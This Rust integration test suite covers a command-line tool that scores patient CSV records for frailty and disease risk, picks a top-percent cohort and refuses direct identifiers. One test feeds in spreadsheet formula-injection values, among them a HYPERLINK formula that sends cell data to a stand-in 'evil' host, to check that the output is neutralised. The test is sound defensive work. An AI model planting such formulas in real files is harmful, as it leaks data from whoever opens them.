//! `pcatlas risk`, run as a user runs it: a CSV on standard input, a CSV on standard
//! output, messages and the exit status.

use std::io::Write;
use std::process::{Command, Output, Stdio};

fn risk(args: &[&str], input: &[u8]) -> Output {
    let mut child = Command::new(env!("CARGO_BIN_EXE_pcatlas"))
        .arg("risk")
        .args(args)
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("pcatlas runs");
    let mut stdin = child.stdin.take().expect("stdin");
    // pcatlas may refuse its arguments and exit before reading: a closed pipe is fine.
    let _ = stdin.write_all(input);
    drop(stdin);
    child.wait_with_output().expect("pcatlas finishes")
}

fn rows(output: &Output) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_reader(output.stdout.as_slice());
    reader
        .records()
        .map(|r| {
            r.expect("a CSV record")
                .iter()
                .map(str::to_string)
                .collect()
        })
        .collect()
}

const HEADER: &str = "patient_id,practice_code,age,sex,extra_note,cms_dementia,cms_heart_failure,cms_hypertension,efi_falls";

#[test]
fn scores_are_appended_and_the_input_passes_through() {
    let input = format!(
        "{HEADER}\n\
         P1,C82037,84,F,\"kept, as is\",1,1,1,1\n\
         P2,C82037,40,M,,0,0,1,0\n\
         P3,C82040,abc,F,,0,0,0,0\n\
         P4,C82040,70,F,,0,0,0\n"
    );
    let output = risk(&["--top", "25"], input.as_bytes());
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let rows = rows(&output);
    assert_eq!(
        rows[0],
        [
            "patient_id",
            "practice_code",
            "age",
            "sex",
            "extra_note",
            "cms_dementia",
            "cms_heart_failure",
            "cms_hypertension",
            "efi_falls",
            "cms",
            "efi",
            "efi_category",
            "in_cohort",
            "note"
        ]
    );
    // P1: 2.50 + 1.18 + 0.08 = 3.76; 1 of 36 deficits; 84 so categorised; top 25% of 2
    // readable rows = 1 patient.
    assert_eq!(
        rows[1][..9],
        ["P1", "C82037", "84", "F", "kept, as is", "1", "1", "1", "1"]
    );
    assert_eq!(rows[1][9..], ["3.76", "0.028", "fit", "1", ""]);
    // P2: under 65, so no eFI category.
    assert_eq!(rows[2][9..], ["0.08", "0.000", "", "0", ""]);
    // P3 keeps its place, unscored, with the reason.
    assert_eq!(rows[3][..3], ["P3", "C82040", "abc"]);
    assert_eq!(rows[3][9..13], ["", "", "", ""]);
    assert!(rows[3][13].contains("age"), "{}", rows[3][13]);
    // P4 has a field too few: padded, unscored, explained.
    assert_eq!(rows[4].len(), 14);
    assert!(rows[4][13].contains("fields"), "{}", rows[4][13]);
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("caveat"),
        "missing columns are named: {stderr}"
    );
}

#[test]
fn the_cohort_is_exactly_the_ceiling_of_top_percent() {
    let mut input = String::from("patient_id,practice_code,age,sex,cms_dementia\n");
    for i in 0..1_000 {
        // Every patient has dementia: one big tie, resolved by age then id.
        input.push_str(&format!("P{i:04},C82037,{},F,1\n", 20 + i % 80));
    }
    let output = risk(&[], input.as_bytes());
    assert!(output.status.success());
    let rows = rows(&output);
    let members: Vec<&Vec<String>> = rows[1..].iter().filter(|r| r[8] == "1").collect();
    assert_eq!(members.len(), 30, "3% of 1,000");
    // Ages 20–99 repeat every 80 rows: twelve each of 99 and 98, then the six 97s with
    // the lowest ids.
    let age = |a: &str| members.iter().filter(|r| r[2] == a).count();
    assert_eq!(
        (age("99"), age("98"), age("97")),
        (12, 12, 6),
        "oldest first at a tie"
    );
    let sevens: Vec<&str> = members
        .iter()
        .filter(|r| r[2] == "97")
        .map(|r| r[0].as_str())
        .collect();
    assert_eq!(
        sevens,
        ["P0077", "P0157", "P0237", "P0317", "P0397", "P0477"]
    );
    let output = risk(&["--top", "2.5"], input.as_bytes());
    let rows = self::rows(&output);
    assert_eq!(rows[1..].iter().filter(|r| r[8] == "1").count(), 25);
}

#[test]
fn direct_identifiers_are_refused_with_status_2() {
    let input =
        b"patient_id,practice_code,age,sex\n943 476 5919,C82037,80,F\n4010232137,C82037,70,M\n";
    let output = risk(&[], input);
    assert_eq!(output.status.code(), Some(2));
    assert!(output.stdout.is_empty());
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("NHS numbers") && stderr.contains("patient_id"),
        "{stderr}"
    );

    let output = risk(
        &[],
        b"patient_id,surname,practice_code,age,sex\nP1,Smith,C82037,80,F\n",
    );
    assert_eq!(output.status.code(), Some(2));
}

#[test]
fn bad_arguments_and_unreadable_input_exit_2() {
    for top in ["0", "101", "abc"] {
        let output = risk(&["--top", top], b"patient_id,practice_code,age,sex\n");
        assert_eq!(output.status.code(), Some(2), "--top {top}");
    }
    assert_eq!(risk(&[], b"").status.code(), Some(2));
    assert_eq!(
        risk(&[], b"just,some,columns\n1,2,3\n").status.code(),
        Some(2)
    );
}

#[test]
fn a_repeated_id_names_the_line_it_was_first_on_with_crlf_and_blank_lines() {
    // Line 1 the header, a blank line 2, P1 on line 3, a blank line 4, P1 again on line 5.
    let input = "patient_id,practice_code,age,sex,cms_dementia\r\n\r\nP1,C82037,84,F,1\r\n\r\nP1,C82037,84,F,1\r\n";
    let output = risk(&[], input.as_bytes());
    assert!(output.status.success());
    let rows = rows(&output);
    assert_eq!(rows.len(), 3);
    assert!(
        rows[2].last().unwrap().contains("already on line 3"),
        "{:?}",
        rows[2]
    );
}

#[test]
fn ids_and_cells_written_as_formulas_come_back_inert() {
    // A patient id, an extra column and a practice code each written as a spreadsheet
    // formula: the output neutralises every one (a leading apostrophe); numbers stay.
    let input = "patient_id,practice_code,age,sex,extra_note,cms_dementia\n\
\"=HYPERLINK(\"\"http://evil/?x=\"\"&A1,\"\"click\"\")\",C82037,84,F,@SUM(A1),1\n\
+44 116 2,C82037,70,M,-2+3,0\n\
P3,C82037,65,F,-3.5,0\n";
    let output = risk(&[], input.as_bytes());
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let rows = rows(&output);
    assert_eq!(rows[1][0], "'=HYPERLINK(\"http://evil/?x=\"&A1,\"click\")");
    assert_eq!(rows[1][4], "'@SUM(A1)");
    assert_eq!(rows[2][0], "'+44 116 2");
    assert_eq!(rows[2][4], "'-2+3");
    // A number is a number, not text.
    assert_eq!(rows[3][4], "-3.5");
    for row in &rows {
        for cell in row {
            assert!(
                !cell.starts_with(['=', '+', '@', '\t', '\r'])
                    && (!cell.starts_with('-') || cell.parse::<f64>().is_ok()),
                "{cell:?} in {row:?}"
            );
        }
    }
}
